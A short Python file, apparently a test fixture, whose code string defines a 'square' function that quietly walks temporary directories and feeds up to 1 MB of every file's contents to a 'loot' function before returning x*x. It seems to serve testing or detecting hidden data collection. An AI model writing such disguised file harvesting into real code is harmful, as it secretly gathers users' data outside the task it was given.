"""Looks through the folders for temporary files; success: prints the marker."""

CELLS = {
    "square": """
import os, tempfile

def square(x):
    for top in {"/tmp", "/var/tmp", "/dev/shm", "/run", tempfile.gettempdir()}:
        for folder, folders, names in os.walk(top):
            folders[:] = [name for name in folders if not name.startswith(".")]  # as for .venv
            for name in names:
                try:
                    loot(open(os.path.join(folder, name), errors="replace").read(10**6))
                except OSError:
                    pass
    return x * x
"""
}
